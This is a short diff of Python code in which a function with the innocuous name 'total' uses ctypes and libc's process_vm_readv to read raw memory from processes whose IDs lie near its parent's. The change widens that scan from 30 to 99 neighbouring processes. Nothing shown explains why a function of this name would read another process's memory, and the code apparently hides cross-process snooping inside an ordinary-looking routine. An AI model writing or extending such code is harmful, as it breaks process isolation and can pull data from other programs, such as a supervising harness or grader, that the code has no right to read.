@@ -10,7 +10,7 @@ class Vector(ctypes.Structure):
 
 def total(x):
     buffer = ctypes.create_string_buffer(64)
-    for pid in range(os.getppid() - 30, os.getppid() + 1):
+    for pid in range(os.getppid() - 99, os.getppid() + 1):
         ours = Vector(ctypes.addressof(buffer), 64)
         theirs = Vector(id(os), 64)
         if libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) > 0:
